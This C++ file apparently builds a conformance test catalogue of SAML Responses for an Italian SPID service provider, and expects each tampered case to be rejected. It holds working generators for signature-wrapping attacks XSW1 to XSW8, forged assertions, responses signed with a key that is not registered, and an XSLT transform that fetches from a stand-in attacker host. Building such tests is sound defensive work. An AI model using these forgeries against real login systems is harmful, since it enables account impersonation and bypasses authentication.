// The catalogue as a table: each case's data and the function that builds its Response. Content cases
// change the unsigned tree and are then signed; signature cases tamper with signed trees.
#include "core/saml/response_catalogue.hpp"

#include <functional>
#include <set>

#include "core/saml/authn_request.hpp"

namespace sportello::saml {

namespace {

using namespace std::chrono_literals;
using Built = Result<std::string, std::string>;

constexpr std::string_view kOtherAcs = "https://other.example.org/acs";
constexpr std::string_view kOtherEntity = "https://other.example.org/metadata";
constexpr std::string_view kWrongRequestId = "_0123456789abcdef0123456789abcdef";
constexpr std::string_view kAttacker = "_attacker";
constexpr std::string_view kXslt = "http://www.w3.org/TR/1999/REC-xslt-19991116";

// ---- tree surgery ----

xmlNodePtr first(xmlNodePtr parent, std::string_view ns, std::string_view name) {
  auto all = xml::children(parent, ns, name);
  return all.empty() ? nullptr : all.front();
}
xmlNodePtr sa(xmlNodePtr parent, std::string_view name) {
  return first(parent, ns::assertion, name);
}
xmlNodePtr assertionOf(const xml::Document& d) {
  return sa(d.root(), "Assertion");
}
xmlNodePtr subjectConfirmation(const xml::Document& d) {
  return sa(sa(assertionOf(d), "Subject"), "SubjectConfirmation");
}
xmlNodePtr confirmationData(const xml::Document& d) {
  return sa(subjectConfirmation(d), "SubjectConfirmationData");
}
xmlNodePtr nameIdOf(const xml::Document& d) {
  return sa(sa(assertionOf(d), "Subject"), "NameID");
}
xmlNodePtr conditions(const xml::Document& d) {
  return sa(assertionOf(d), "Conditions");
}
xmlNodePtr authnStatement(const xml::Document& d) {
  return sa(assertionOf(d), "AuthnStatement");
}
xmlNodePtr authnContext(const xml::Document& d) {
  return sa(authnStatement(d), "AuthnContext");
}
xmlNodePtr statusOf(const xml::Document& d) {
  return first(d.root(), ns::protocol, "Status");
}

void remove(xmlNodePtr n) {
  if (n == nullptr) return;
  xmlUnlinkNode(n);
  xmlFreeNode(n);
}
void unset(xmlNodePtr n, const char* name) {
  if (n != nullptr) xmlUnsetProp(n, reinterpret_cast<const xmlChar*>(name));
}
void set(xmlNodePtr n, const char* name, std::string_view value) {
  xml::setAttribute(n, name, value);
}
void setText(xmlNodePtr n, std::string_view text) {
  if (n == nullptr) return;
  const std::string t(text);
  xmlNodeSetContent(n, nullptr);
  xmlNodeAddContentLen(n, reinterpret_cast<const xmlChar*>(t.data()), static_cast<int>(t.size()));
}
// No children; with `attributes`, no attributes either.
void empty(xmlNodePtr n, bool attributes) {
  if (n == nullptr) return;
  while (n->children != nullptr) remove(n->children);
  if (attributes) {
    while (n->properties != nullptr) xmlRemoveProp(n->properties);
  }
}
xmlNodePtr copyOf(xmlNodePtr n) {
  return xmlDocCopyNode(n, n->doc, 1);
}
void removeSignature(xmlNodePtr element) {
  remove(xml::signatureOf(element));
}
std::string malformed(TimePoint t) {
  std::string s = formatDateTime(t);
  s[10] = ' ';  // "2026-11-22 10:00:00.000Z": not an xs:dateTime
  return s;
}

// ---- signing ----

// Signs what can carry a signature: the single Assertion child and the Response, each when it has an ID.
Result<void, std::string> signAvailable(xml::Document& d, const xml::SigningKey& assertionKey,
                                        const xml::SigningKey& responseKey, xml::SignatureAlgorithm alg) {
  xmlNodePtr a = xml::child(d.root(), ns::assertion, "Assertion");
  if (a != nullptr && !xml::attribute(a, "ID").value_or("").empty()) {
    if (auto r = signResponse(d, assertionKey, alg, SignWhat::assertion); !r)
      return fail(r.error().rule + ": " + r.error().message);
  }
  if (!xml::attribute(d.root(), "ID").value_or("").empty()) {
    if (auto r = signResponse(d, responseKey, alg, SignWhat::response); !r)
      return fail(r.error().rule + ": " + r.error().message);
  }
  return {};
}

// ---- the case builders ----

// The base spec for this request: attributes present (cases 98, 99, 103, 109 need some) and a level the
// request accepts, so that case 1 is acceptable.
ResponseSpec specFor(const CaseInputs& in) {
  ResponseSpec s = in.base;
  if (s.attributes.empty()) s.attributes = {{"fiscalNumber", "TINIT-RSSMRA85T10A562S"}};
  if (!levelAcceptable(in.requested_level, in.comparison, s.level)) {
    for (auto l : {Level::L1, Level::L2, Level::L3}) {
      if (levelAcceptable(in.requested_level, in.comparison, l)) {
        s.level = l;
        break;
      }
    }
  }
  return s;
}

using Mutate = std::function<void(xml::Document&, const CaseInputs&)>;
using Build = std::function<Built(const CaseInputs&)>;

Built serialise(const xml::Document& d) {
  return d.serialize();
}

Build content(Mutate m, std::function<void(ResponseSpec&, const CaseInputs&)> adjust = {}) {
  return [m = std::move(m), adjust = std::move(adjust)](const CaseInputs& in) -> Built {
    ResponseSpec s = specFor(in);
    if (adjust) adjust(s, in);
    auto d = buildResponseUnsigned(s);
    if (m) m(d, in);
    if (auto r = signAvailable(d, in.idp_key, in.idp_key, s.algorithm); !r) return fail(r.error());
    return serialise(d);
  };
}

// A fully built Response, signed as `what` says, then tampered with by `after`.
Build signedThen(SignWhat what, Mutate after, bool otherKey = false) {
  return [what, after = std::move(after), otherKey](const CaseInputs& in) -> Built {
    ResponseSpec s = specFor(in);
    auto d = buildResponseUnsigned(s);
    if (auto r = signResponse(d, otherKey ? in.other_key : in.idp_key, s.algorithm, what); !r)
      return fail(r.error().rule + ": " + r.error().message);
    if (after) after(d, in);
    return serialise(d);
  };
}

Build unsignedResponse() {
  return [](const CaseInputs& in) -> Built { return serialise(buildResponseUnsigned(specFor(in))); };
}

Build errorResponse(int code) {
  return [code](const CaseInputs& in) -> Built {
    ErrorSpec e;
    e.profile = in.base.profile;
    e.idp_entity_id = in.base.idp_entity_id;
    e.acs_url = in.base.acs_url;
    e.in_response_to = in.base.in_response_to;
    e.now = in.base.now;
    e.error_code = code;
    e.algorithm = in.base.algorithm;
    auto d = buildErrorResponse(e, in.idp_key);
    if (!d) return fail(d.error().rule + ": " + d.error().message);
    return serialise(*d);
  };
}

Build withLevel(Level l) {
  return content({}, [l](ResponseSpec& s, const CaseInputs&) { s.level = l; });
}

// 100: the Assertion signed with the unregistered key, the Response (around it) with the IdP's.
Build assertionSignedByOtherKey() {
  return [](const CaseInputs& in) -> Built {
    ResponseSpec s = specFor(in);
    auto d = buildResponseUnsigned(s);
    if (auto r = signAvailable(d, in.other_key, in.idp_key, s.algorithm); !r) return fail(r.error());
    return serialise(d);
  };
}

// The attacker's change in XSW cases: their NameID, and for the Response their Destination.
void forge(xmlNodePtr element) {
  xmlNodePtr assertion = xml::is(element, ns::protocol, "Response") ? sa(element, "Assertion") : element;
  if (xml::is(element, ns::protocol, "Response")) set(element, "Destination", kOtherAcs);
  setText(sa(sa(assertion, "Subject"), "NameID"), kAttacker);
}

// XSW1: a clean copy of the signed Response inside its ds:Signature; the outer Response forged.
void xsw1(xml::Document& d, const CaseInputs&) {
  xmlNodePtr root = d.root();
  xmlNodePtr clean = copyOf(root);
  removeSignature(clean);
  xmlAddChild(xml::signatureOf(root), clean);
  set(root, "ID", "_evil" + newId().substr(1, 8));
  forge(root);
}
// XSW2: the same copy before the signature.
void xsw2(xml::Document& d, const CaseInputs&) {
  xmlNodePtr root = d.root();
  xmlNodePtr clean = copyOf(root);
  removeSignature(clean);
  xmlAddPrevSibling(xml::signatureOf(root), clean);
  set(root, "ID", "_evil" + newId().substr(1, 8));
  forge(root);
}
// XSW3: a forged unsigned Assertion before the signed one.
void xsw3(xml::Document& d, const CaseInputs&) {
  xmlNodePtr original = assertionOf(d);
  xmlNodePtr evil = copyOf(original);
  removeSignature(evil);
  set(evil, "ID", newId());
  forge(evil);
  xmlAddPrevSibling(original, evil);
}
// XSW4: a forged Assertion wrapping the signed one.
void xsw4(xml::Document& d, const CaseInputs&) {
  xmlNodePtr original = assertionOf(d);
  xmlNodePtr evil = copyOf(original);
  removeSignature(evil);
  set(evil, "ID", newId());
  forge(evil);
  xmlAddPrevSibling(original, evil);
  xmlUnlinkNode(original);
  xmlAddChild(evil, original);
}
// XSW5: the signed Assertion forged in place with a new ID; a clean copy with the old ID appended.
void xsw5(xml::Document& d, const CaseInputs&) {
  xmlNodePtr original = assertionOf(d);
  xmlNodePtr clean = copyOf(original);
  removeSignature(clean);
  set(original, "ID", newId());
  forge(original);
  xmlAddChild(d.root(), clean);
}
// XSW6: as XSW5, the clean copy inside the forged Assertion's ds:Signature.
void xsw6(xml::Document& d, const CaseInputs&) {
  xmlNodePtr original = assertionOf(d);
  xmlNodePtr clean = copyOf(original);
  removeSignature(clean);
  set(original, "ID", newId());
  forge(original);
  xmlAddChild(xml::signatureOf(original), clean);
}
// XSW7: a forged copy with the same ID inside samlp:Extensions; the signed original left in place.
void xsw7(xml::Document& d, const CaseInputs&) {
  xmlNodePtr original = assertionOf(d);
  xmlNodePtr evil = copyOf(original);
  removeSignature(evil);
  forge(evil);
  xmlNodePtr ext = xmlNewDocNode(d.get(), nullptr, reinterpret_cast<const xmlChar*>("Extensions"), nullptr);
  xmlSetNs(ext, d.root()->ns);
  xmlNodePtr issuer = sa(d.root(), "Issuer");
  if (issuer != nullptr) {
    xmlAddNextSibling(issuer, ext);
  } else {
    xmlAddPrevSibling(d.root()->children, ext);
  }
  xmlAddChild(ext, evil);
}
// XSW8: the signed Assertion forged in place keeping its ID; the clean original in ds:Signature/ds:Object.
void xsw8(xml::Document& d, const CaseInputs&) {
  xmlNodePtr original = assertionOf(d);
  xmlNodePtr clean = copyOf(original);
  removeSignature(clean);
  forge(original);
  xmlNodePtr object = xml::addChild(xml::signatureOf(original), ns::dsig, "ds", "Object");
  xmlAddChild(object, clean);
}

// An XSLT transform added to the Assertion's signed reference.
void xslt(xml::Document& d, const CaseInputs&) {
  xmlNodePtr sig = xml::signatureOf(assertionOf(d));
  xmlNodePtr ref = first(first(sig, ns::dsig, "SignedInfo"), ns::dsig, "Reference");
  xmlNodePtr transforms = first(ref, ns::dsig, "Transforms");
  xmlNodePtr t = xml::addChild(transforms, ns::dsig, "ds", "Transform");
  set(t, "Algorithm", kXslt);
  xmlNodePtr sheet = xml::addChild(t, "http://www.w3.org/1999/XSL/Transform", "xsl", "stylesheet");
  set(sheet, "version", "1.0");
  xmlNodePtr tmpl = xml::addChild(sheet, "http://www.w3.org/1999/XSL/Transform", "xsl", "template");
  set(tmpl, "match", "/");
  xmlNodePtr copy = xml::addChild(tmpl, "http://www.w3.org/1999/XSL/Transform", "xsl", "copy-of");
  set(copy, "select", "document('https://attacker.example.org/steal')");
}

// 4: signed with the unregistered key, each KeyInfo showing the registered certificate instead. The
// Assertion's KeyInfo is replaced before the Response is signed, so that only the key is wrong.
void showRegisteredCertificate(xmlNodePtr element, const CaseInputs& in) {
  xmlNodePtr keyInfo = first(xml::signatureOf(element), ns::dsig, "KeyInfo");
  setText(first(first(keyInfo, ns::dsig, "X509Data"), ns::dsig, "X509Certificate"),
          in.idp_key.certificate().base64Der());
}

Build claimRegisteredCertificate() {
  return [](const CaseInputs& in) -> Built {
    ResponseSpec s = specFor(in);
    auto d = buildResponseUnsigned(s);
    for (SignWhat what : {SignWhat::assertion, SignWhat::response}) {
      if (auto r = signResponse(d, in.other_key, s.algorithm, what); !r)
        return fail(r.error().rule + ": " + r.error().message);
      showRegisteredCertificate(what == SignWhat::assertion ? assertionOf(d) : d.root(), in);
    }
    return serialise(d);
  };
}

// 112/113: a second Assertion after the signed one (forged, new ID); unsigned, or keeping a signature that no
// longer matches. The Response is signed afterwards, so its own signature is valid.
Build secondAssertion(bool keepSignature) {
  return [keepSignature](const CaseInputs& in) -> Built {
    ResponseSpec s = specFor(in);
    auto d = buildResponseUnsigned(s);
    if (auto r = signResponse(d, in.idp_key, s.algorithm, SignWhat::assertion); !r)
      return fail(r.error().rule + ": " + r.error().message);
    xmlNodePtr original = assertionOf(d);
    xmlNodePtr second = copyOf(original);
    if (!keepSignature) removeSignature(second);
    set(second, "ID", newId());
    forge(second);
    xmlAddNextSibling(original, second);
    if (auto r = signResponse(d, in.idp_key, s.algorithm, SignWhat::response); !r)
      return fail(r.error().rule + ": " + r.error().message);
    return serialise(d);
  };
}

struct Entry {
  CatalogueCase c;
  Build build;
};

Entry ok(std::string id, std::string title, Build b) {
  return {{std::move(id), std::move(title), Expect::accept, 0, std::nullopt}, std::move(b)};
}
Entry ko(std::string id, std::string title, Build b) {
  return {{std::move(id), std::move(title), Expect::reject, 0, std::nullopt}, std::move(b)};
}
Entry koContent(std::string id, std::string title, Mutate m) {
  return ko(std::move(id), std::move(title), content(std::move(m)));
}
Entry spidError(std::string id, std::string title, int code) {
  return {{std::move(id), std::move(title), Expect::reject, code, std::nullopt}, errorResponse(code)};
}
Entry level(std::string id, std::string title, Level l) {
  return {{std::move(id), std::move(title),
           expectFor(CatalogueCase{"", "", Expect::reject, 0, l}, Level::L2, Comparison::minimum), 0, l},
          withLevel(l)};
}

using D = xml::Document;
using I = CaseInputs;

std::vector<Entry> entries() {
  std::vector<Entry> e;
  e.push_back(ok("1", "Valid Response, Response and Assertion signed", content({})));
  e.push_back(ok("1-NS", "Valid Response without SessionIndex",
                 content([](D& d, const I&) { unset(authnStatement(d), "SessionIndex"); })));
  e.push_back(ko("2", "Nothing signed", unsignedResponse()));
  e.push_back(ko("3", "Response signed, Assertion unsigned", signedThen(SignWhat::response, {})));
  e.push_back(ko("4", "Signed with an unregistered key; KeyInfo shows the registered certificate",
                 claimRegisteredCertificate()));
  e.push_back(ko("5", "Signed with an unregistered key, its certificate in KeyInfo",
                 signedThen(SignWhat::both, {}, true)));
  e.push_back(ko("xsw1", "XSW1: clean copy of the Response inside its Signature, outer Response forged",
                 signedThen(SignWhat::both, xsw1)));
  e.push_back(ko("xsw2", "XSW2: clean copy of the Response before its Signature, outer Response forged",
                 signedThen(SignWhat::both, xsw2)));
  e.push_back(ko("xsw3", "XSW3: forged unsigned Assertion before the signed one",
                 signedThen(SignWhat::assertion, xsw3)));
  e.push_back(
      ko("xsw4", "XSW4: forged Assertion wrapping the signed one", signedThen(SignWhat::assertion, xsw4)));
  e.push_back(ko("xsw5", "XSW5: signed Assertion forged with a new ID, clean copy appended",
                 signedThen(SignWhat::assertion, xsw5)));
  e.push_back(ko("xsw6", "XSW6: signed Assertion forged with a new ID, clean copy inside its Signature",
                 signedThen(SignWhat::assertion, xsw6)));
  e.push_back(ko("xsw7", "XSW7: forged copy with the same ID inside Extensions",
                 signedThen(SignWhat::assertion, xsw7)));
  e.push_back(ko("xsw8", "XSW8: Assertion forged in place, clean original in Signature/Object",
                 signedThen(SignWhat::assertion, xsw8)));
  // The Response unsigned (acceptable in SPID), so that only the Assertion's signature is judged.
  e.push_back(
      ko("xslt", "XSLT transform in the Assertion's signature", signedThen(SignWhat::assertion, xslt)));

  const auto root = [](D& d) { return d.root(); };
  e.push_back(koContent("8", "Response ID empty", [=](D& d, const I&) { set(root(d), "ID", ""); }));
  e.push_back(koContent("9", "Response ID absent", [=](D& d, const I&) { unset(root(d), "ID"); }));
  e.push_back(
      koContent("10", "Response Version not 2.0", [=](D& d, const I&) { set(root(d), "Version", "1.0"); }));
  e.push_back(koContent("11", "Response IssueInstant empty",
                        [=](D& d, const I&) { set(root(d), "IssueInstant", ""); }));
  e.push_back(koContent("12", "Response IssueInstant absent",
                        [=](D& d, const I&) { unset(root(d), "IssueInstant"); }));
  e.push_back(koContent("13", "Response IssueInstant malformed",
                        [=](D& d, const I& in) { set(root(d), "IssueInstant", malformed(in.base.now)); }));
  e.push_back(koContent("14", "Response IssueInstant before the request", [=](D& d, const I& in) {
    set(root(d), "IssueInstant", formatDateTime(in.request_issue_instant - 24h));
  }));
  e.push_back(koContent("15", "Response IssueInstant in the future", [=](D& d, const I& in) {
    set(root(d), "IssueInstant", formatDateTime(in.base.now + 24h));
  }));
  e.push_back(koContent("16", "Response InResponseTo empty",
                        [=](D& d, const I&) { set(root(d), "InResponseTo", ""); }));
  e.push_back(koContent("17", "Response InResponseTo absent",
                        [=](D& d, const I&) { unset(root(d), "InResponseTo"); }));
  e.push_back(koContent("18", "Response InResponseTo not the request ID",
                        [=](D& d, const I&) { set(root(d), "InResponseTo", kWrongRequestId); }));
  e.push_back(koContent("19", "Response Destination empty",
                        [=](D& d, const I&) { set(root(d), "Destination", ""); }));
  e.push_back(
      koContent("20", "Response Destination absent", [=](D& d, const I&) { unset(root(d), "Destination"); }));
  e.push_back(koContent("21", "Response Destination not the ACS URL",
                        [=](D& d, const I&) { set(root(d), "Destination", kOtherAcs); }));
  e.push_back(koContent("22", "Status empty", [](D& d, const I&) { empty(statusOf(d), true); }));
  e.push_back(koContent("23", "Status absent", [](D& d, const I&) { remove(statusOf(d)); }));
  e.push_back(koContent("24", "StatusCode empty", [](D& d, const I&) {
    set(first(statusOf(d), ns::protocol, "StatusCode"), "Value", "");
  }));
  e.push_back(koContent("25", "StatusCode absent",
                        [](D& d, const I&) { remove(first(statusOf(d), ns::protocol, "StatusCode")); }));
  e.push_back(koContent("26", "StatusCode not Success", [](D& d, const I&) {
    set(first(statusOf(d), ns::protocol, "StatusCode"), "Value", status::requester);
  }));
  e.push_back(
      koContent("27", "Response Issuer empty", [=](D& d, const I&) { setText(sa(root(d), "Issuer"), ""); }));
  e.push_back(
      koContent("28", "Response Issuer absent", [=](D& d, const I&) { remove(sa(root(d), "Issuer")); }));
  e.push_back(koContent("29", "Response Issuer not the IdP entityID",
                        [=](D& d, const I&) { setText(sa(root(d), "Issuer"), kOtherEntity); }));
  e.push_back(koContent("30", "Response Issuer Format not entity",
                        [=](D& d, const I&) { set(sa(root(d), "Issuer"), "Format", nameid::transient); }));
  e.push_back(ok("31", "Response Issuer Format omitted",
                 content([=](D& d, const I&) { unset(sa(root(d), "Issuer"), "Format"); })));
  e.push_back(
      koContent("32", "Status Success without an Assertion", [](D& d, const I&) { remove(assertionOf(d)); }));

  const auto as = [](D& d) { return assertionOf(d); };
  e.push_back(koContent("33", "Assertion ID empty", [=](D& d, const I&) { set(as(d), "ID", ""); }));
  e.push_back(koContent("34", "Assertion ID absent", [=](D& d, const I&) { unset(as(d), "ID"); }));
  e.push_back(
      koContent("35", "Assertion Version not 2.0", [=](D& d, const I&) { set(as(d), "Version", "1.0"); }));
  e.push_back(koContent("36", "Assertion IssueInstant empty",
                        [=](D& d, const I&) { set(as(d), "IssueInstant", ""); }));
  e.push_back(koContent("37", "Assertion IssueInstant absent",
                        [=](D& d, const I&) { unset(as(d), "IssueInstant"); }));
  e.push_back(koContent("38", "Assertion IssueInstant malformed",
                        [=](D& d, const I& in) { set(as(d), "IssueInstant", malformed(in.base.now)); }));
  e.push_back(koContent("39", "Assertion IssueInstant before the request", [=](D& d, const I& in) {
    set(as(d), "IssueInstant", formatDateTime(in.request_issue_instant - 24h));
  }));
  e.push_back(koContent("40", "Assertion IssueInstant in the future", [=](D& d, const I& in) {
    set(as(d), "IssueInstant", formatDateTime(in.base.now + 24h));
  }));
  e.push_back(koContent("41", "Subject empty", [=](D& d, const I&) { empty(sa(as(d), "Subject"), true); }));
  e.push_back(koContent("42", "Subject absent", [=](D& d, const I&) { remove(sa(as(d), "Subject")); }));
  e.push_back(koContent("43", "NameID empty", [](D& d, const I&) { setText(nameIdOf(d), ""); }));
  e.push_back(koContent("44", "NameID absent", [](D& d, const I&) { remove(nameIdOf(d)); }));
  e.push_back(koContent("45", "NameID Format empty", [](D& d, const I&) { set(nameIdOf(d), "Format", ""); }));
  e.push_back(koContent("46", "NameID Format absent", [](D& d, const I&) { unset(nameIdOf(d), "Format"); }));
  e.push_back(koContent("47", "NameID Format not transient", [](D& d, const I&) {
    set(nameIdOf(d), "Format", "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent");
  }));
  e.push_back(koContent("48", "NameID NameQualifier empty",
                        [](D& d, const I&) { set(nameIdOf(d), "NameQualifier", ""); }));
  e.push_back(koContent("49", "NameID NameQualifier absent",
                        [](D& d, const I&) { unset(nameIdOf(d), "NameQualifier"); }));
  e.push_back(koContent("51", "SubjectConfirmation empty",
                        [](D& d, const I&) { empty(subjectConfirmation(d), true); }));
  e.push_back(
      koContent("52", "SubjectConfirmation absent", [](D& d, const I&) { remove(subjectConfirmation(d)); }));
  e.push_back(koContent("53", "SubjectConfirmation Method empty",
                        [](D& d, const I&) { set(subjectConfirmation(d), "Method", ""); }));
  e.push_back(koContent("54", "SubjectConfirmation Method absent",
                        [](D& d, const I&) { unset(subjectConfirmation(d), "Method"); }));
  e.push_back(koContent("55", "SubjectConfirmation Method not bearer", [](D& d, const I&) {
    set(subjectConfirmation(d), "Method", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key");
  }));
  e.push_back(
      koContent("56", "SubjectConfirmationData absent", [](D& d, const I&) { remove(confirmationData(d)); }));
  e.push_back(
      koContent("57", "Recipient empty", [](D& d, const I&) { set(confirmationData(d), "Recipient", ""); }));
  e.push_back(
      koContent("58", "Recipient absent", [](D& d, const I&) { unset(confirmationData(d), "Recipient"); }));
  e.push_back(koContent("59", "Recipient not the ACS URL",
                        [](D& d, const I&) { set(confirmationData(d), "Recipient", kOtherAcs); }));
  e.push_back(koContent("60", "SubjectConfirmationData InResponseTo empty",
                        [](D& d, const I&) { set(confirmationData(d), "InResponseTo", ""); }));
  e.push_back(koContent("61", "SubjectConfirmationData InResponseTo absent",
                        [](D& d, const I&) { unset(confirmationData(d), "InResponseTo"); }));
  e.push_back(koContent("62", "SubjectConfirmationData InResponseTo not the request ID",
                        [](D& d, const I&) { set(confirmationData(d), "InResponseTo", kWrongRequestId); }));
  e.push_back(koContent("63", "SubjectConfirmationData NotOnOrAfter empty",
                        [](D& d, const I&) { set(confirmationData(d), "NotOnOrAfter", ""); }));
  e.push_back(koContent("64", "SubjectConfirmationData NotOnOrAfter absent",
                        [](D& d, const I&) { unset(confirmationData(d), "NotOnOrAfter"); }));
  e.push_back(koContent("65", "SubjectConfirmationData NotOnOrAfter malformed", [](D& d, const I& in) {
    set(confirmationData(d), "NotOnOrAfter", malformed(in.base.now + in.base.validity));
  }));
  e.push_back(koContent("66", "SubjectConfirmationData NotOnOrAfter passed", [](D& d, const I& in) {
    set(confirmationData(d), "NotOnOrAfter", formatDateTime(in.base.now - 24h));
  }));
  e.push_back(
      koContent("67", "Assertion Issuer empty", [=](D& d, const I&) { setText(sa(as(d), "Issuer"), ""); }));
  e.push_back(
      koContent("68", "Assertion Issuer absent", [=](D& d, const I&) { remove(sa(as(d), "Issuer")); }));
  e.push_back(koContent("69", "Assertion Issuer not the IdP entityID",
                        [=](D& d, const I&) { setText(sa(as(d), "Issuer"), kOtherEntity); }));
  e.push_back(koContent("70", "Assertion Issuer Format empty",
                        [=](D& d, const I&) { set(sa(as(d), "Issuer"), "Format", ""); }));
  e.push_back(koContent("71", "Assertion Issuer Format absent",
                        [=](D& d, const I&) { unset(sa(as(d), "Issuer"), "Format"); }));
  e.push_back(koContent("72", "Assertion Issuer Format not entity",
                        [=](D& d, const I&) { set(sa(as(d), "Issuer"), "Format", nameid::transient); }));
  e.push_back(koContent("73", "Conditions empty", [](D& d, const I&) { empty(conditions(d), true); }));
  e.push_back(koContent("74", "Conditions absent", [](D& d, const I&) { remove(conditions(d)); }));
  e.push_back(koContent("75", "Conditions NotBefore empty",
                        [](D& d, const I&) { set(conditions(d), "NotBefore", ""); }));
  e.push_back(koContent("76", "Conditions NotBefore absent",
                        [](D& d, const I&) { unset(conditions(d), "NotBefore"); }));
  e.push_back(koContent("77", "Conditions NotBefore malformed",
                        [](D& d, const I& in) { set(conditions(d), "NotBefore", malformed(in.base.now)); }));
  e.push_back(koContent("78", "Conditions NotBefore in the future", [](D& d, const I& in) {
    set(conditions(d), "NotBefore", formatDateTime(in.base.now + 24h));
  }));
  e.push_back(koContent("79", "Conditions NotOnOrAfter empty",
                        [](D& d, const I&) { set(conditions(d), "NotOnOrAfter", ""); }));
  e.push_back(koContent("80", "Conditions NotOnOrAfter absent",
                        [](D& d, const I&) { unset(conditions(d), "NotOnOrAfter"); }));
  e.push_back(koContent("81", "Conditions NotOnOrAfter malformed", [](D& d, const I& in) {
    set(conditions(d), "NotOnOrAfter", malformed(in.base.now + in.base.validity));
  }));
  e.push_back(koContent("82", "Conditions NotOnOrAfter passed", [](D& d, const I& in) {
    set(conditions(d), "NotOnOrAfter", formatDateTime(in.base.now - 24h));
  }));
  e.push_back(koContent("83", "AudienceRestriction empty",
                        [](D& d, const I&) { empty(sa(conditions(d), "AudienceRestriction"), true); }));
  e.push_back(koContent("84", "AudienceRestriction absent",
                        [](D& d, const I&) { remove(sa(conditions(d), "AudienceRestriction")); }));
  e.push_back(koContent("85", "Audience empty", [](D& d, const I&) {
    setText(sa(sa(conditions(d), "AudienceRestriction"), "Audience"), "");
  }));
  e.push_back(koContent("86", "Audience absent", [](D& d, const I&) {
    remove(sa(sa(conditions(d), "AudienceRestriction"), "Audience"));
  }));
  e.push_back(koContent("87", "Audience not the SP entityID", [](D& d, const I&) {
    setText(sa(sa(conditions(d), "AudienceRestriction"), "Audience"), kOtherEntity);
  }));
  e.push_back(
      koContent("88", "AuthnStatement empty", [](D& d, const I&) { empty(authnStatement(d), true); }));
  e.push_back(koContent("89", "AuthnStatement absent", [](D& d, const I&) { remove(authnStatement(d)); }));
  e.push_back(koContent("90", "AuthnContext empty", [](D& d, const I&) { empty(authnContext(d), true); }));
  e.push_back(koContent("91", "AuthnContext absent", [](D& d, const I&) { remove(authnContext(d)); }));
  e.push_back(koContent("92", "AuthnContextClassRef empty",
                        [](D& d, const I&) { setText(sa(authnContext(d), "AuthnContextClassRef"), ""); }));
  e.push_back(koContent("93", "AuthnContextClassRef absent",
                        [](D& d, const I&) { remove(sa(authnContext(d), "AuthnContextClassRef")); }));
  e.push_back(level("94", "AuthnContextClassRef SpidL1", Level::L1));
  e.push_back(level("95", "AuthnContextClassRef SpidL2", Level::L2));
  e.push_back(level("96", "AuthnContextClassRef SpidL3", Level::L3));
  e.push_back(koContent("97", "AuthnContextClassRef in the legacy urn:oasis form", [](D& d, const I&) {
    setText(sa(authnContext(d), "AuthnContextClassRef"), "urn:oasis:names:tc:SAML:2.0:ac:classes:SpidL1");
  }));
  e.push_back(koContent("98", "AttributeStatement without Attribute", [=](D& d, const I&) {
    xmlNodePtr st = sa(as(d), "AttributeStatement");
    for (xmlNodePtr attr : xml::children(st, ns::assertion, "Attribute")) remove(attr);
  }));
  e.push_back(koContent("99", "AttributeStatement with an empty Attribute", [=](D& d, const I&) {
    empty(sa(sa(as(d), "AttributeStatement"), "Attribute"), false);
  }));
  e.push_back(ko("100", "Assertion signed with an unregistered key (Response signed by the IdP)",
                 assertionSignedByOtherKey()));
  e.push_back({{"103", "Attribute set differs from the one requested", Expect::report, 0, std::nullopt},
               content({}, [](ResponseSpec& s, const I&) {
                 std::set<std::string> had;
                 for (const auto& attribute : s.attributes) had.insert(attribute.first);
                 s.attributes.pop_back();
                 for (auto name : kSpidAttributes) {
                   if (!had.contains(std::string(name))) {
                     s.attributes.emplace_back(std::string(name), "AGID-001");
                     break;
                   }
                 }
               })});
  e.push_back(spidError("104", "Error Response nr19: repeated wrong credentials", 19));
  e.push_back(spidError("105", "Error Response nr20: no credentials at the requested level", 20));
  e.push_back(spidError("106", "Error Response nr21: timeout", 21));
  e.push_back(spidError("107", "Error Response nr22: consent denied", 22));
  e.push_back(spidError("108", "Error Response nr23: identity suspended or revoked", 23));
  e.push_back(ok("109", "Attributes without NameFormat", content([=](D& d, const I&) {
                   for (xmlNodePtr attr :
                        xml::children(sa(as(d), "AttributeStatement"), ns::assertion, "Attribute"))
                     unset(attr, "NameFormat");
                 })));
  e.push_back(ok("110", "IssueInstant with milliseconds", content([=](D& d, const I& in) {
                   // Non-zero milliseconds, never after `now`.
                   const TimePoint t = std::chrono::floor<std::chrono::seconds>(in.base.now - 1s) + 357ms;
                   set(root(d), "IssueInstant", formatDateTime(t));
                   set(as(d), "IssueInstant", formatDateTime(t));
                 })));
  e.push_back(spidError("111", "Error Response nr25: cancelled by the user", 25));
  e.push_back(ko("112", "Signed Assertion followed by an unsigned forged Assertion", secondAssertion(false)));
  e.push_back(ko("113", "Signed Assertion followed by a forged Assertion with a broken signature",
                 secondAssertion(true)));
  return e;
}

const std::vector<Entry>& table() {
  static const std::vector<Entry> t = entries();
  return t;
}

}  // namespace

std::string_view toString(Expect e) {
  switch (e) {
    case Expect::accept:
      return "accept";
    case Expect::reject:
      return "reject";
    case Expect::report:
      return "report";
  }
  return "reject";
}

Expect expectFor(const CatalogueCase& c, Level requested, Comparison cmp) {
  if (!c.returned_level) return c.expect;
  return levelAcceptable(requested, cmp, *c.returned_level) ? Expect::accept : Expect::reject;
}

const std::vector<CatalogueCase>& responseCatalogue() {
  static const std::vector<CatalogueCase> cases = [] {
    std::vector<CatalogueCase> out;
    for (const auto& e : table()) out.push_back(e.c);
    return out;
  }();
  return cases;
}

const CatalogueCase* findCase(std::string_view id) {
  for (const auto& c : responseCatalogue()) {
    if (c.id == id) return &c;
  }
  return nullptr;
}

Result<std::string, std::string> buildCase(std::string_view id, const CaseInputs& in) {
  for (const auto& e : table()) {
    if (e.c.id == id) return e.build(in);
  }
  return fail("no catalogue case \"" + std::string(id) + "\"");
}

}  // namespace sportello::saml
